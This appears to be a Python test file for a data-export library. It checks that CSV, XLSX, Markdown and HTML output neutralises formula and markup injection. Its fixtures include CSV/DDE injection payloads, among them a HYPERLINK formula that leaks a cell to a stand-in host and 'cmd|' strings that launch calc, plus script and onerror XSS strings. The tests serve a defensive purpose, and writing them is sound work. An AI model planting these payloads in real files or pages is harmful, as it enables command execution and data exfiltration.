"""No formula or markup injection: XLSX stores text as text, CSV neutralises formula starts
(numbers stay numbers), Markdown escapes HTML and pipes, HTML escapes."""

from __future__ import annotations

import re
import zipfile

import pandas as pd
import pytest

from cohortflow.core.cellsafe import csv_cell, csv_restore, md_cell
from cohortflow.core.io import write_csv
from cohortflow.core.xlsx import write_xlsx
from cohortflow.render.export import write_markdown_table
from cohortflow.render.tables import frame_to_html, md_table

HOSTILE = [
    '=HYPERLINK("http://x.example/?id="&B2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


def test_xlsx_stores_formula_text_as_text(tmp_path):
    df = pd.DataFrame({"value": HOSTILE, "n": range(len(HOSTILE))})
    out = write_xlsx({"queries": df}, tmp_path / "q.xlsx", title="=1+2", footnotes=["=3+4"])
    with zipfile.ZipFile(out) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml
    import openpyxl

    ws = openpyxl.load_workbook(out).active
    got = [ws.cell(row=4 + i, column=1).value for i in range(len(HOSTILE))]
    # exact text (openpyxl reads \r back as a line break, as Excel stores it)
    assert [g.replace("\n", "\r") if g else g for g in got] == [
        h.replace("\n", "\r") for h in HOSTILE
    ]
    assert all(ws.cell(row=4 + i, column=1).data_type == "s" for i in range(len(HOSTILE)))
    assert ws.cell(row=1, column=1).value == "=1+2"
    assert ws.cell(row=4, column=2).value == 0  # numbers stay numbers


def test_query_listing_xlsx_has_no_formula(tmp_path):
    from cohortflow.validate.queries import QUERY_COLUMNS, write_listing_files

    q = pd.DataFrame([dict.fromkeys(QUERY_COLUMNS, HOSTILE[0])])
    write_listing_files(q, str(tmp_path / "q.csv"), str(tmp_path / "q.xlsx"))
    with zipfile.ZipFile(tmp_path / "q.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    text = (tmp_path / "q.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text and "\n=HYPERLINK" not in text


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_neutralised(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.5", "+3", "-0", "12%", "-1e-3", "plain", "a=b", "", "'x"])
def test_csv_cell_numbers_and_plain_text_unchanged(value):
    assert csv_cell(value) == value


def test_csv_round_trip_restores_exact_text(tmp_path):
    """What is read back from a neutralised CSV for an XLSX is exactly what was written
    (an apostrophe typed before a formula character included)."""
    texts = [*HOSTILE, "'=x", "''=y", "'-1.5", "-1.5", "plain", "'"]
    df = pd.DataFrame({"t": texts, "n": range(len(texts))})
    write_csv(df, tmp_path / "r.csv")
    raw = pd.read_csv(tmp_path / "r.csv", dtype={"t": str}, keep_default_na=False)
    assert not raw["t"].str.startswith(("=", "+", "@", "\t", "\r")).any()
    back = csv_restore(raw)
    assert back["t"].tolist() == [t.replace("\r", "\n") for t in texts]  # CR: a line feed
    assert back["n"].tolist() == list(range(len(texts)))


def test_write_csv_neutralises_text_not_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "text": ["=1+1", "-2+3", "-1.5", "ok", None],
            "num": [-1.5, 2.0, -3.0, 0.0, float("nan")],
            "mixed": [-4, "=A1", "@x", 5, "-"],
        }
    )
    write_csv(df, tmp_path / "x.csv")
    back = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False)
    assert back["text"].tolist() == ["'=1+1", "'-2+3", "-1.5", "ok", ""]
    assert back["num"].tolist() == ["-1.5", "2", "-3", "0", ""]
    assert back["mixed"].tolist() == ["-4", "'=A1", "'@x", "5", "'-"]


def test_markdown_escapes_html_and_pipes(tmp_path):
    df = pd.DataFrame(
        {"level": ["<script>alert(1)</script>", "a|b", "x &amp; y", "< 6 months", "l1\nl2"]}
    )
    text = md_table(df)
    assert "<script>" not in text and "&lt;script>" in text
    assert "a\\|b" in text and "&amp;amp; y" in text
    assert "| < 6 months |" in text  # not a tag: unchanged (demo tables keep their text)
    assert "l1 l2" in text
    # every data row still has exactly one cell
    for line in text.splitlines()[2:]:
        assert len(re.findall(r"(?<!\\)\|", line)) == 2
    out = write_markdown_table(df, tmp_path / "t.md", "T")
    assert "<script>" not in out.read_text(encoding="utf-8")
    assert md_cell("<img src=x onerror=alert(1)>").startswith("&lt;img")


def test_table1_markdown_and_html_escape_data_values():
    from cohortflow.render.tables import describe, to_markdown

    df = pd.DataFrame({"protocol": ["<script>x</script>", "A|B", "=1+2", "ok"]})
    t = describe(df, [{"label": "Protocol", "kind": "categorical", "variable": "protocol"}])
    md = to_markdown(t, "Table 1", "N = 4", [])
    assert "<script>" not in md and "A\\|B" in md
    page = frame_to_html(pd.DataFrame({"x": ["<script>x</script>"]}), "<b>", ["<i>"])
    assert "<script>" not in page and "<b>" not in page.split("<style>")[0]
